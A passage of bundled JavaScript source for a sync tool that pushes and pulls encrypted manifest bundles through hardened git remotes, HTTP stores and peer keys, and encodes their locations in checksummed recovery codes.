    'http_proxy',
    'https_proxy',
    'no_proxy',
    'SSL_CERT_FILE',
    'SSL_CERT_DIR',
    'GIT_SSL_CAINFO'
]);
const configArgs = () => FIXED_CONFIG.flatMap(c => ['-c', c]);
/** The environment git runs with, built from `from` (never inherited whole). */
function gitEnv(from) {
    const env = {};
    for (const [k, v] of Object.entries(from))
        if (v !== undefined && PASSED.has(k))
            env[k] = v;
    return {
        ...env,
        GIT_TERMINAL_PROMPT: '0',
        GIT_ALLOW_PROTOCOL: 'file:git:http:https:ssh',
        GIT_AUTHOR_NAME: 'swr',
        GIT_AUTHOR_EMAIL: 'swr@localhost',
        GIT_COMMITTER_NAME: 'swr',
        GIT_COMMITTER_EMAIL: 'swr@localhost',
        GIT_SSH_COMMAND: env.GIT_SSH_COMMAND ?? 'ssh -o BatchMode=yes',
        GIT_CONFIG_NOSYSTEM: '1',
        LC_ALL: 'C'
    };
}
/**
 * `--receive-pack`/`--upload-pack` for a local remote: git starts these through the shell with
 * the repository path appended, and without the caller's `-c` settings (git clears them for the
 * local transport), so they are repeated here.
 */
function run_localTransport() {
    const fixed = FIXED_CONFIG.map(c => `-c '${c}'`).join(' ');
    return {
        push: `--receive-pack=git ${fixed} receive-pack`,
        fetch: `--upload-pack=git ${fixed} upload-pack`
    };
}
/** `git ARGS` without a shell; resolves to stdout, rejects with git's last stderr line. */
function run_runGit(args, opts) {
    const maxOut = opts.maxOut ?? 1 << 20;
    return new Promise((resolve, reject) => {
        const child = spawn('git', [...configArgs(), ...args], {
            cwd: opts.cwd,
            env: gitEnv(opts.env),
            stdio: ['pipe', 'pipe', 'pipe']
        });
        const out = [];
        let outBytes = 0;
        let err = '';
        let failed;
        const timer = setTimeout(() => {
            failed = new Error(`git ${args[0]} took longer than ${Math.round(opts.deadlineMs / 1000)} s`);
            child.kill('SIGKILL');
        }, opts.deadlineMs);
        child.stdout.on('data', (c) => {
            outBytes += c.length;
            if (outBytes > maxOut) {
                failed = new Error(`git ${args[0]} printed more than ${maxOut} bytes`);
                child.kill('SIGKILL');
            }
            else
                out.push(c);
        });
        child.stderr.on('data', (c) => {
            err = (err + c.toString('utf8')).slice(-4000);
        });
        child.on('error', e => {
            clearTimeout(timer);
            reject(new Error(e.code === 'ENOENT' ? 'git is not installed' : e.message));
        });
        child.on('close', code => {
            clearTimeout(timer);
            if (failed)
                return reject(failed);
            if (code !== 0) {
                const line = err.trim().split('\n').filter(Boolean).pop() ?? `exit ${code}`;
                return reject(new Error(line.replace(/\p{Cc}/gu, ' ').slice(0, 300)));
            }
            resolve(Buffer.concat(out));
        });
        child.stdin.on('error', () => undefined);
        child.stdin.end(opts.input ?? '');
    });
}

;// CONCATENATED MODULE: ./src/core/sync/git-store.ts
/**
 * A git remote as a store: the bundle becomes the only file (`bundle.json`) of a parentless commit,
 * pushed to `refs/swr/NAME` of the remote (a remote name of the current repository, a URL, or a
 * bare repository's path). The machine's own `git` does the work from a private, temporary bare
 * repository, so no working tree, index or branch of any repository is touched. Each push replaces
 * the ref (the remote keeps the newest bundle only).
 *
 * Locator: `git:REMOTE#NAME`, REMOTE resolved (a remote name becomes its URL, a path becomes
 * absolute) and without any password it held. A bare word is always a remote name; a path is
 * spelled as one (`./origin`, `/srv/x.git`, `file://…`) and may not lie inside the workspace. Only
 * the file, git, http(s) and ssh transports are allowed (never `ext::`), git never prompts, a
 * remote spelled with a leading "-" is refused, and git runs through `git/run.ts`: no hook of the
 * scratch repository or of a local receiving repository runs.
 */








const FILE = 'bundle.json';
/** `git ARGS` through the one git runner: fixed configuration, no secrets, bounded output. */
function git(ctx, args, opts = {}) {
    const env = { ...ctx.env };
    for (const k of ['GIT_DIR', 'GIT_WORK_TREE', 'GIT_INDEX_FILE', 'GIT_OBJECT_DIRECTORY'])
        delete env[k];
    return runGit(args, { cwd: ctx.cwd, env, deadlineMs: ctx.deadlineMs, ...opts });
}
const URL_RE = /^([a-z][a-z0-9+.-]*):\/\//i;
const ALLOWED = new Set(['file', 'git', 'http', 'https', 'ssh']);
function withoutPassword(url) {
    const m = URL_RE.exec(url);
    if (!m)
        return url;
    try {
        const u = new URL(url);
        if (!u.password)
            return url;
        u.password = '';
        return u.toString();
    }
    catch {
        return url;
    }
}
async function resolveRemote(remote, ctx) {
    if (remote === '' || remote.startsWith('-') || /\p{Cc}/u.test(remote) || remote.length > 2000)
        throw new UsageError(`bad git remote ${JSON.stringify(remote.slice(0, 80))}`);
    const scheme = URL_RE.exec(remote)?.[1]?.toLowerCase();
    if (scheme === 'file')
        return localRemote(new URL(remote).pathname, remote, ctx);
    if (scheme) {
        if (!ALLOWED.has(scheme))
            throw new UsageError(`git remote: the ${scheme} transport is not allowed`);
        return { url: remote, shown: withoutPassword(remote), local: false };
    }
    if (remote.includes('::'))
        throw new UsageError('git remote: transport helpers are not allowed');
    // A path is spelled as one (it holds a slash, or starts with "." or "~"); a bare word is always
    // a remote name, never a directory of that name that happens to be in the working directory.
    if (remote.includes('/') || remote.startsWith('.') || remote.startsWith('~'))
        return localRemote(remote, remote, ctx);
    // scp-like user@host:path (a colon before any slash) is ssh.
    if (remote.includes(':'))
        return { url: remote, shown: remote, local: false };
    let url;
    try {
        url = (await git(ctx, ['remote', 'get-url', '--', remote])).toString('utf8').trim();
    }
    catch {
        throw new UsageError(`git remote "${remote}": no remote of that name here (spell a path as ./${remote})`);
    }
    if (url === remote)
        throw new UsageError(`git remote "${remote}" resolves to itself`);
    return resolveRemote(url.includes('/') || URL_RE.test(url) ? url : `./${url}`, ctx);
}
/** A repository on this machine, never inside the workspace (its hooks and objects are the workspace's). */
function localRemote(spelled, shown, ctx) {
    const home = ctx.env.HOME;
    const expanded = spelled.startsWith('~/') && home ? path.join(home, spelled.slice(2)) : spelled;
    const abs = path.resolve(ctx.cwd, expanded);
    const real = realPathOrSelf(abs);
    if (ctx.workspace !== undefined) {
        const ws = realPathOrSelf(ctx.workspace);
        if (real === ws || isInside(ws, real))
            throw new UsageError(`git remote ${JSON.stringify(shown.slice(0, 200))} is inside the workspace: an off-box copy must live elsewhere`);
    }
    return { url: abs, shown: URL_RE.test(shown) ? shown : abs, local: true };
}
function realPathOrSelf(p) {
    try {
        return fs.realpathSync(p);
    }
    catch {
        return path.resolve(p);
    }
}
/** `git:REMOTE#NAME` → its parts. */
function git_store_parseGitLocator(locator) {
    const body = locator.slice('git:'.length);
    const at = body.lastIndexOf('#');
    if (!locator.startsWith('git:') || at <= 0)
        throw new UsageError(`bad git locator ${JSON.stringify(locator.slice(0, 120))}`);
    return { remote: body.slice(0, at), name: checkName(body.slice(at + 1)) };
}
async function withScratchRepo(ctx, fn) {
    const dir = makeOwnedTemp(ctx.tmpDir, 'swr-git');
    try {
        await git(ctx, ['init', '--bare', '--quiet', dir]);
        return await fn(dir);
    }
    finally {
        fs.rmSync(dir, { recursive: true, force: true });
    }
}
function git_store_gitStore(spelling, ctx) {
    const remoteSpec = spelling.slice('git:'.length);
    const fail = (why) => storeError(spelling, why);
    return {
        spelling,
        async put(bytes, meta) {
            const name = checkName(meta.name);
            const remote = await resolveRemote(remoteSpec, ctx);
            return withScratchRepo(ctx, async (dir) => {
                const g = (args, input) => git(ctx, ['--git-dir', dir, ...args], { input });
                try {
                    const blob = (await g(['hash-object', '-w', '--stdin'], bytes)).toString().trim();
                    const tree = (await g(['mktree'], `100644 blob ${blob}\t${FILE}\n`)).toString().trim();
                    const commit = (await g(['commit-tree', tree, '-m', `swr bundle ${name}\n\nsha256 ${meta.sha256}\n`]))
                        .toString()
                        .trim();
                    await g([
                        'push',
                        '--quiet',
                        '--no-verify',
                        ...(remote.local ? [localTransport().push] : []),
                        remote.url,
                        `+${commit}:refs/swr/${name}`
                    ]);
                }
                catch (err) {
                    throw fail(`push failed: ${err.message}`);
                }
                return `git:${remote.shown}#${name}`;
            });
        },
        locate: name => `git:${remoteSpec}#${checkName(name)}`,
        async get(locator) {
            const { remote: r, name } = git_store_parseGitLocator(locator);
            const remote = await resolveRemote(r, ctx);
            return withScratchRepo(ctx, async (dir) => {
                const g = (args, maxOut) => git(ctx, ['--git-dir', dir, ...args], { maxOut });
                try {
                    await g([
                        'fetch',
                        '--quiet',
                        '--no-tags',
                        ...(remote.local ? [localTransport().fetch] : []),
                        remote.url,
                        `+refs/swr/${name}:refs/swr/got`
                    ]);
                }
                catch (err) {
                    const msg = err.message;
                    throw fail(/couldn't find remote ref/i.test(msg) ? `no copy named ${name}` : `fetch failed: ${msg}`);
                }
                let size;
                try {
                    size = Number((await g(['cat-file', '-s', `refs/swr/got:${FILE}`])).toString().trim());
                }
                catch {
                    throw fail(`refs/swr/${name} holds no ${FILE}`);
                }
                if (!(size <= MAX_BUNDLE_BYTES))
                    throw fail(`${size} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
                const bytes = await g(['cat-file', 'blob', `refs/swr/got:${FILE}`], MAX_BUNDLE_BYTES);
                const ct = Number((await g(['show', '-s', '--format=%ct', 'refs/swr/got'])).toString());
                return { bytes, storedAt: Number.isFinite(ct) && ct > 0 ? new Date(ct * 1000) : undefined };
            });
        },
        async stat(locator) {
            const { remote: r, name } = git_store_parseGitLocator(locator);
            try {
                const remote = await resolveRemote(r, ctx);
                const out = await git(ctx, [
                    'ls-remote',
                    ...(remote.local ? [localTransport().fetch] : []),
                    remote.url,
                    `refs/swr/${name}`
                ]);
                return out.length > 0
                    ? { reachable: true }
                    : { reachable: false, detail: `no copy named ${name}` };
            }
            catch (err) {
                return { reachable: false, detail: err.message };
            }
        }
    };
}

;// CONCATENATED MODULE: ./src/core/sync/http-store.ts
/**
 * An HTTP(S) URL template as a store: `push` PUTs the bundle to the template filled in, `pull`
 * GETs it back. Placeholders: `{name}` (the copy's name) and `{sha256}` (the hex SHA-256 of the
 * stored bytes, for content-addressed stores); a template without them is one fixed URL. The
 * locator is the filled-in URL.
 *
 * Credentials never sit in the URL (a URL with a user or password is refused, since the locator
 * ends up in the recovery code): the Authorization header's value is read from the environment
 * variable named by `--auth-env VAR`, at each run. Redirects are not followed. Every request has a
 * time limit and every body a size limit; 429 and 5xx answers, cut-short bodies and timeouts are
 * retried (store.ts) until the operation's deadline.
 */



const PLACEHOLDER = /\{([^}]*)\}/g;
const KNOWN = new Set(['name', 'sha256']);
function checkUrl(url, what) {
    let u;
    try {
        u = new URL(url);
    }
    catch {
        throw new UsageError(`${what}: not a URL: ${JSON.stringify(url.slice(0, 120))}`);
    }
    if (u.protocol !== 'http:' && u.protocol !== 'https:')
        throw new UsageError(`${what}: only http and https URLs are stores`);
    if (u.username || u.password)
        throw new UsageError(`${what}: a URL must not hold credentials (they would end up in the recovery code); use --auth-env VAR`);
    return u;
}
/** The template with its placeholders filled in. */
function fillTemplate(template, values) {
    const url = template.replace(PLACEHOLDER, (_, key) => {
        if (!KNOWN.has(key))
            throw new UsageError(`${template.slice(0, 120)}: unknown placeholder {${key}} (use {name} or {sha256})`);
        return key === 'name' ? checkName(values.name) : values.sha256;
    });
    checkUrl(url, template.slice(0, 120));
    return url;
}
/** Retry-After in seconds (delta-seconds or an HTTP date), or undefined. */
function retryAfterSeconds(value, now = Date.now()) {
    if (!value)
        return undefined;
    if (/^\d{1,7}$/.test(value.trim()))
        return Number(value.trim());
    const t = Date.parse(value);
    return Number.isFinite(t) ? Math.max(0, (t - now) / 1000) : undefined;
}
function headers(ctx) {
    const h = { 'user-agent': 'swr-sync' };
    if (ctx.authEnv) {
        const v = ctx.env[ctx.authEnv];
        if (v === undefined || v === '')
            throw new UsageError(`--auth-env ${ctx.authEnv}: the variable is not set`);
        if (/[\r\n]/.test(v))
            throw new UsageError(`--auth-env ${ctx.authEnv}: the value holds a line break`);
        h.authorization = v;
    }
    return h;
}
function transientStatus(status) {
    return status === 429 || status === 408 || status >= 500;
}
const TRANSIENT_CODES = new Set([
    'ECONNRESET',
    'EPIPE',
    'ETIMEDOUT',
    'UND_ERR_SOCKET',
    'UND_ERR_CONNECT_TIMEOUT',
    'UND_ERR_HEADERS_TIMEOUT',
    'UND_ERR_BODY_TIMEOUT'
]);
/** A fetch error: a timeout or a reset may pass; a refused connection or a bad URL will not. */
function classify(err) {
    const e = err;
    const code = e.cause?.code;
    if (e.name === 'TimeoutError' || e.name === 'AbortError')
        return new Transient('no answer within the request time limit');
    const msg = String(e.cause?.message ?? e.message).slice(0, 120);
    if (code && TRANSIENT_CODES.has(code))
        return new Transient(`the connection failed: ${msg}`);
    return new Error(`cannot connect (${code ?? msg})`);
}
/** The body, at most `max` bytes, and exactly Content-Length bytes when the server sent one. */
async function readBody(res, max) {
    const declared = res.headers.get('content-length');
    if (declared !== null && Number(declared) > max)
        throw new Error(`${declared} bytes, over the ${max}-byte limit`);
    const chunks = [];
    let total = 0;
    if (res.body) {
        for await (const chunk of res.body) {
            total += chunk.length;
            if (total > max)
                throw new Error(`more than the ${max}-byte limit`);
            chunks.push(Buffer.from(chunk));
        }
    }
    if (declared !== null && Number(declared) !== total)
        throw new Transient(`the body was cut short (${total} of ${declared} bytes)`);
    return Buffer.concat(chunks);
}
function http_store_httpStore(template, ctx) {
    checkUrl(template.replace(PLACEHOLDER, 'x'), template.slice(0, 120));
    const shown = template.slice(0, 200);
    const fail = (why) => storeError(shown, why);
    async function request(method, url, body) {
        let res;
        try {
            res = await fetch(url, {
                method,
                ...(body ? { body } : {}),
                headers: {
                    ...headers(ctx),
                    ...(body ? { 'content-type': 'application/octet-stream' } : {})
                },
                redirect: 'manual',
                signal: AbortSignal.timeout(ctx.requestMs)
            });
        }
        catch (err) {
            if (err instanceof UsageError)
                throw err;
            throw classify(err);
        }
        if (transientStatus(res.status)) {
            await res.body?.cancel().catch(() => undefined);
            throw new Transient(`HTTP ${res.status}`, retryAfterSeconds(res.headers.get('retry-after')));
        }
        return res;
    }
    return {
        spelling: shown,
        async put(bytes, meta) {
            const url = fillTemplate(template, meta);
            await withRetries(`PUT ${url}`, ctx, async () => {
                const res = await request('PUT', url, bytes);
                await res.body?.cancel().catch(() => undefined);
                if (res.status < 200 || res.status > 299)
                    throw fail(`PUT answered HTTP ${res.status}`);
            }).catch(err => {
                throw err instanceof Transient ? fail(err.message) : err;
            });
            return url;
        },
        locate(name) {
            if (template.includes('{sha256}'))
                throw new UsageError(`${shown}: names each copy by its hash; pull it with the recovery code (--code)`);
            return fillTemplate(template, { name, sha256: '' });
        },
        async get(locator) {
            checkUrl(locator, shown);
            return withRetries(`GET ${locator}`, ctx, async () => {
                const res = await request('GET', locator);
                if (res.status === 404) {
                    await res.body?.cancel().catch(() => undefined);
                    throw fail('no copy there (HTTP 404)');
                }
                if (res.status !== 200) {
                    await res.body?.cancel().catch(() => undefined);
                    throw fail(`GET answered HTTP ${res.status}`);
                }
                let bytes;
                try {
                    bytes = await readBody(res, MAX_BUNDLE_BYTES);
                }
                catch (err) {
                    if (err instanceof Transient)
                        throw err;
                    if (err.name === 'TimeoutError' || err.name === 'AbortError')
                        throw new Transient('the body did not arrive within the request time limit');
                    if (/terminated|other side closed/i.test(err.message))
                        throw new Transient('the body was cut short');
                    throw fail(err.message);
                }
                const lm = Date.parse(res.headers.get('last-modified') ?? '');
                return { bytes, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
            });
        },
        async stat(locator) {
            try {
                checkUrl(locator, shown);
                const res = await withRetries(`HEAD ${locator}`, ctx, () => request('HEAD', locator));
                await res.body?.cancel().catch(() => undefined);
                if (res.status !== 200)
                    return { reachable: false, detail: `HTTP ${res.status}` };
                const lm = Date.parse(res.headers.get('last-modified') ?? '');
                return { reachable: true, storedAt: Number.isFinite(lm) ? new Date(lm) : undefined };
            }
            catch (err) {
                return { reachable: false, detail: err.message };
            }
        }
    };
}

;// CONCATENATED MODULE: ./src/core/sync/open.ts
/** A store from its spelling (`--to`, `--from`) or from a locator (a recovery code, a record). */




function open_openStore(spec, ctx) {
    switch (storeKind(spec)) {
        case 'git':
            return gitStore(spec, ctx);
        case 'http':
            return httpStore(spec, ctx);
        case 'actions':
            if (!ctx.actions)
                throw new UsageError('the Actions cache store is not available here');
            return ctx.actions(ctx);
        default:
            throw new UsageError(`unknown store ${JSON.stringify(spec.slice(0, 120))}: use git:REMOTE, an http(s) URL template, or actions`);
    }
}
/** The store that holds the copy at `locator`. */
function open_storeOfLocator(locator, ctx) {
    if (storeKind(locator) === 'git')
        return gitStore(`git:${parseGitLocator(locator).remote}`, ctx);
    return open_openStore(locator, ctx);
}

;// CONCATENATED MODULE: ./src/core/sync/peers.ts
/**
 * Named peers: other machines' sync public keys (X-Wing), so `swr push --to-peer NAME` seals a copy
 * that they can open. Kept in the private state directory (`sync/peers.json`); a key is added once
 * under a name and never silently replaced. Fingerprints (the recipient id) are for checking a key
 * out of band: a key taken on trust is encryption to whoever handed it over.
 */







const peers_FILE = 'peers.json';
const MAX_PEERS = 256;
function file(stateDir) {
    return path.join(stateDir, 'sync', peers_FILE);
}
function loadPeers(stateDir) {
    let text;
    try {
        const st = fs.lstatSync(file(stateDir));
        if (!st.isFile() || st.size > 1 << 20)
            throw new SwrError(`${file(stateDir)}: not a regular file under 1 MiB`, EXIT.UNREPAIRABLE);
        text = fs.readFileSync(file(stateDir), 'utf8');
    }
    catch (err) {
        if (errnoCode(err) === 'ENOENT')
            return [];
        throw err;
    }
    let doc;
    try {
        doc = JSON.parse(text);
    }
    catch {
        throw new SwrError(`${file(stateDir)}: not JSON`, EXIT.UNREPAIRABLE);
    }
    return Object.entries(doc.peers ?? {}).map(([name, v]) => {
        const key = typeof v === 'string' ? parsePublicKey(v) : undefined;
        if (!key || !NAME_RE.test(name))
            throw new SwrError(`${file(stateDir)}: peer "${name.slice(0, 64)}" is malformed`, EXIT.UNREPAIRABLE);
        return { name, key, fingerprint: recipientId(key) };
    });
}
function save(stateDir, peers) {
    ensurePrivateDir(stateDir, 'sync');
    const doc = {
        format: 'swr-peers/1',
        peers: Object.fromEntries(peers.map(p => [p.name, p.key.toString('base64')]))
    };
    writeFileAtomic(file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
}
/** Add a peer; the same key under the same name again is a no-op, anything else a refusal. */
function addPeer(stateDir, name, keyText) {
    if (!NAME_RE.test(name))
        throw new UsageError(`bad peer name ${JSON.stringify(name.slice(0, 64))}: use letters, digits, ".", "_" or "-"`);
    const key = parsePublicKey(keyText);
    if (!key)
        throw new UsageError('not a sync public key (base64 of 1216 bytes, as "swr peer mine" prints)');
    const peers = loadPeers(stateDir);
    const peer = { name, key, fingerprint: recipientId(key) };
    const same = peers.find(p => p.name === name);
    if (same) {
        if (same.key.equals(key))
            return { peer: same, added: false };
        throw new UsageError(`peer "${name}" already has another key: remove it first`);
    }
    if (peers.length >= MAX_PEERS)
        throw new UsageError(`at most ${MAX_PEERS} peers`);
    save(stateDir, [...peers, peer]);
    return { peer, added: true };
}
function removePeer(stateDir, name) {
    const peers = loadPeers(stateDir);
    const gone = peers.find(p => p.name === name);
    if (!gone)
        throw new UsageError(`no peer named "${name.slice(0, 64)}"`);
    save(stateDir, peers.filter(p => p !== gone));
    return gone;
}
function peers_findPeer(stateDir, name) {
    const p = loadPeers(stateDir).find(x => x.name === name);
    if (!p)
        throw new UsageError(`no peer named "${name.slice(0, 64)}" (add it with "swr peer add")`);
    return p;
}

;// CONCATENATED MODULE: ./src/core/sync/recovery-code.ts
/**
 * The recovery code `swr push` prints: everything a fresh machine needs to find one stored copy and
 * to know it is the one that was pushed, in one line a person can type:
 *
 *   swr1:PIN:WORD:LOCATOR
 *
 *   PIN      the first 125 bits of the SHA-256 of the stored bytes, 25 base32 letters in five
 *            groups of five (abcde-fghij-…); a copy whose hash differs is refused
 *   WORD     a checksum word over PIN and LOCATOR: most typing mistakes are caught before any
 *            network access (one in 128 slips through, and is then refused by the PIN or the store)
 *   LOCATOR  where the copy is (store.ts): git:REMOTE#NAME, an http(s) URL, or actions:KEY
 *
 * The code holds no secret: the bundle is sealed, and opening it needs the sync key.
 */



const CODE_PREFIX = 'swr1';
const B32 = 'abcdefghijklmnopqrstuvwxyz234567';
const PIN_CHARS = 25;
/** Short, distinct, easy to say and to type. */
const WORDS = ('acorn amber anchor apple arrow aspen badge bamboo banjo barley basil beacon berry birch ' +
    'bison blossom bonfire breeze brick bridge brook cabin cactus camel candle canyon carbon cargo ' +
    'cedar cello chalk cherry cider cinder citrus clover cobalt comet copper coral cotton crane ' +
    'crater cricket dahlia delta denim desert dolphin dune eagle ember falcon fern fiddle fjord ' +
    'flint forest fossil garnet geyser ginger glacier granite gravel harbor hazel heron hickory ' +
    'honey island ivory jasper juniper kayak kettle lagoon lantern lemon lilac linen lotus magnet ' +
    'maple marble meadow mesa mint moss nectar nickel nutmeg oasis olive onyx orbit orchid otter ' +
    'oyster paddle pebble pepper pine planet plum prairie quartz quill radish raven reef ribbon ' +
    'river rocket saddle salmon sandal sierra silver spruce summit tundra tulip velvet violet ' +
    'walnut willow zephyr').split(' ');
function pinOf(sha256Hex) {
    const bytes = Buffer.from(sha256Hex, 'hex');
    let bits = '';
    for (const b of bytes.subarray(0, 16))
        bits += b.toString(2).padStart(8, '0');
    let out = '';
    for (let i = 0; i < PIN_CHARS; i++)
        out += B32[parseInt(bits.slice(i * 5, i * 5 + 5), 2)];
    return out;
}
function checkWord(pin, locator) {
    const h = createHash('sha256').update(`swr-code\0${pin}\0${locator}`).digest();
    return WORDS[(h[0] ?? 0) & 127];
}
function grouped(pin) {
    return pin.match(/.{1,5}/g)?.join('-') ?? pin;
}
function recovery_code_makeCode(locator, sha256Hex) {
    const pin = pinOf(sha256Hex);
    return `${CODE_PREFIX}:${grouped(pin)}:${checkWord(pin, locator)}:${locator}`;
}
/** Parse a typed code; every mistake is a one-line usage error. */
function recovery_code_parseCode(text) {
    const code = text.trim();
    const parts = /^([^:]*):([^:]*):([^:]*):(.+)$/s.exec(code);
    if (!parts || parts[1]?.toLowerCase() !== CODE_PREFIX)
        throw new UsageError(`not a recovery code (it starts with "${CODE_PREFIX}:")`);
    const pin = (parts[2] ?? '').toLowerCase().replace(/[-\s]/g, '');
    if (pin.length !== PIN_CHARS || [...pin].some(c => !B32.includes(c)))
        throw new UsageError(`recovery code: the pin has ${PIN_CHARS} letters a-z and digits 2-7`);
    const locator = parts[4] ?? '';
    if (/\p{Cc}/u.test(locator) || locator.length > 2000 || !storeKind(locator))
        throw new UsageError('recovery code: the locator is not a git:, http(s): or actions: one');
    const word = (parts[3] ?? '').toLowerCase();
    if (word !== checkWord(pin, locator))
        throw new UsageError('recovery code: the checksum word does not match (a typo in the pin, the word or the locator)');
    return { pin, locator };
}
/** Whether bytes with this SHA-256 are the copy the code names. */
function recovery_code_pinMatches(code, sha256Hex) {
    return pinOf(sha256Hex) === code.pin;
}

;// CONCATENATED MODULE: ./src/core/sync/replicas.ts
/**
 * What this machine pushed, and where: one record per manifest in the private state directory
 * (`sync/replicas.json`), read by `swr sync status` to check each copy's reachability, hash and
 * age. The record is a convenience, not a trust anchor: a pull checks the pin it is given.
 */





const MAX_MANIFESTS = 200;
function replicas_file(stateDir) {
    return path.join(stateDir, 'sync', 'replicas.json');
}
function load(stateDir) {
    try {
        const st = fs.lstatSync(replicas_file(stateDir));
        if (!st.isFile() || st.size > 4 << 20)
            return {};
        const doc = JSON.parse(fs.readFileSync(replicas_file(stateDir), 'utf8'));
        return doc.manifests && typeof doc.manifests === 'object' ? doc.manifests : {};
    }
    catch (err) {
        // A missing or damaged record is an empty one: it only lists what to check.
        if (errnoCode(err) === 'ENOENT' || err instanceof SyntaxError)
            return {};
        throw err;
    }
}
function replicas_replicasOf(stateDir, manifest) {
    const list = load(stateDir)[manifest];
    return Array.isArray(list) ? list.filter(r => r && typeof r.locator === 'string') : [];
}
/** Replace the record of `manifest` with `replicas` (the newest push). */
function replicas_recordReplicas(stateDir, manifest, replicas) {
    const all = load(stateDir);
    delete all[manifest];
    const kept = Object.entries(all).slice(-(MAX_MANIFESTS - 1));
    ensurePrivateDir(stateDir, 'sync');
    const doc = {
        format: 'swr-replicas/1',
        manifests: Object.fromEntries([...kept, [manifest, replicas]])
    };
    writeFileAtomic(replicas_file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
}

;// CONCATENATED MODULE: ./src/core/engine/sync.ts
/**
 * push, pull and sync status as use cases: carry the signed manifest (with its tree indexes) off
 * the machine, to git remotes, HTTP stores and the Actions cache (sync/), so a machine whose
 * workspace and home were wiped can recover the recipe book first, from one recovery code.
 *
 * - `push` seals a copy (HPKE with X-Wing) to this machine's sync key and any named peers, or,
 *   only when allowed, packs it in clear with its tokens redacted and never with escrow; stores it
 *   in each store, reads each copy back, records the copies that read back intact and returns one
 *   line of outcome per store with the recovery code.
 * - `pull` fetches the first copy a source yields (refusing one that fails its pin), opens it,
 *   fills the variables named for a redacted copy, verifies exactly what would be written through
 *   the gate (and, when values were filled in, a trusted signature over them first), checks each
 *   tree index against the signed manifest, and only then writes, never over an existing file.
 * - `syncStatus` reads each recorded copy back and returns its reachability, hash health and age.
 *
 * The shell supplies the store context (stderr notes, the Actions cache adapter), the trust
 * policy and the store lists it reads from flags or the environment; these functions print
 * nothing and return finished results.
 */


















/**
 * The store's key tail for this manifest's copies in the Actions cache: version and digest, so a
 * new version is a new entry (the cache never overwrites one).
 */
function pushKeyTail(m) {
    return `v${m.body.version}-${m.digest.slice(0, 16)}`;
}
async function push(m, ctx, opts) {
    if (m.format !== 3)
        throw new UsageError(`${m.file} is a format-2 manifest: import it first`);
    const name = checkName(opts.name ?? defaultName(m.file));
    const trees = treeIndexes(m);
    const seed = loadSyncSeed(opts.stateDir, opts.syncKeyText);
    const peers = (opts.peers ?? []).map(n => findPeer(opts.stateDir, n));
    const recipients = [...(seed ? [await syncPublicKey(seed)] : []), ...peers.map(p => p.key)];
    const recipientNames = [...(seed ? ['this machine'] : []), ...peers.map(p => p.name)];
    const text = fs.readFileSync(m.file, 'utf8');
    const sealed = recipients.length > 0;
    const packed = sealed
        ? { bytes: await packSealed({ manifest: text, trees }, recipients), redacted: [] }
        : packInClear(m, text, trees, opts.plaintextOk ?? false);
    const sha256 = sha256Hex(packed.bytes);
    const replicas = [];
    const records = [];
    for (const spec of opts.stores) {
        try {
            const store = openStore(spec, ctx);
            const locator = await store.put(packed.bytes, { name, sha256 });
            // The copy counts once it reads back exactly as sent.
            const back = await store.get(locator);
            if (sha256Hex(back.bytes) !== sha256)
                throw new SwrError(`${spec}: the stored copy reads back different bytes`, EXIT.UNREPAIRABLE);
            const code = makeCode(locator, sha256);
            replicas.push({ store: spec, ok: true, locator, code });
            records.push({
                store: spec,
                locator,
                sha256,
                bytes: packed.bytes.length,
                pushed_at: (opts.now?.() ?? new Date()).toISOString(),
                code,
                sealed
            });
        }
        catch (err) {
            if (err instanceof UsageError)
                throw err;
            replicas.push({ store: spec, ok: false, error: message(err) });
        }
    }
    if (records.length > 0)
        recordReplicas(opts.stateDir, m.file, records);
    return {
        kind: 'push',
        manifest: m.file,
        digest: m.digest,
        version: m.body.version,
        name,
        sealed,
        recipients: recipientNames,
        redacted: packed.redacted,
        sha256,
        bytes: packed.bytes.length,
        replicas,
        code: records[0]?.code,
        ok: replicas.every(r => r.ok)
    };
}
/** The tree indexes the manifest's entries name and that exist, base64. */
function treeIndexes(m) {
    const trees = {};
    for (const e of m.body.entries) {
        if (e.kind !== 'tree' || !e.expect.index)
            continue;
        const p = indexPath(m.file, e.id);
        if (fs.existsSync(p))
            trees[e.id] = fs.readFileSync(p).toString('base64');
    }
    return trees;
}
/** A copy in clear: only when asked for, never with escrow, never with a token-shaped name. */
function packInClear(m, text, trees, plaintextOk) {
    if (m.body.entries.some(e => e.kind === 'file' && e.escrow))
        throw new SwrError('this manifest carries escrowed bytes and is never sent in clear: create a sync key with "swr keygen" (or set SWR_SYNC_KEY), or name a peer with --to-peer', EXIT.UNREPAIRABLE);
    if (!plaintextOk)
        throw new SwrError('push seals every copy and there is no key to seal it to: create a sync key with "swr keygen" (or set SWR_SYNC_KEY), name a peer with --to-peer, or pass --plaintext-ok to publish it in clear (tokens redacted)', EXIT.UNREPAIRABLE);
    for (const [id, b64] of Object.entries(trees))
        if (hasTokenShape(Buffer.from(b64, 'base64').toString('latin1')))
            throw new SwrError(`the index of tree "${id}" holds a token-shaped name: it is never sent in clear`, EXIT.UNREPAIRABLE);
    const r = redact(text);
    return {
        bytes: packPlain({
            manifest: r.text,
            trees,
            ...(r.variables.length ? { redacted: r.variables } : {})
        }),
        redacted: r.variables.map(v => ({ variable: v, preview: r.previews[v] ?? '' }))
    };
}
async function pull(ctx, opts) {
    const target = opts.target;
    if (fs.existsSync(target)) {
        if (opts.ifMissing)
            return { kind: 'pull', status: 'present', manifest: target };
        throw new UsageError(`${target} already exists: pull never overwrites a manifest (pass -m NEW.json)`);
    }
    const got = await fetchFirst(sources(opts.source, ctx, target), ctx);
    const named = expandList(opts.expand);
    const opened = await unpackBundle(got.bytes, loadSyncSeed(opts.stateDir, opts.syncKeyText), {
        allowPlain: Boolean(opts.plaintextOk || named.length > 0)
    });
    const bundle = opened.bundle;
    const redacted = bundle.redacted ?? [];
    const text = redacted.length > 0 ? expand(bundle.manifest, redacted, named, opts.env) : bundle.manifest;
    // Verify exactly what will be written, as if it were already in place.
    const m = pulledManifest(redacted.length > 0
        ? parseFilled(text, bundle.manifest)
        : format3(parseManifestText(text, 'pulled manifest')), opts);
    const policy = opts.policyFor(m);
    // Values filled in from the environment are quoted by nothing until a trusted signature holds
    // over them: a planted copy could place ${ANY_VARIABLE} where a refusal would quote it.
    if (redacted.length > 0) {
        const held = await signaturesHold(gateInput(m), policy);
        if (!held.allowed)
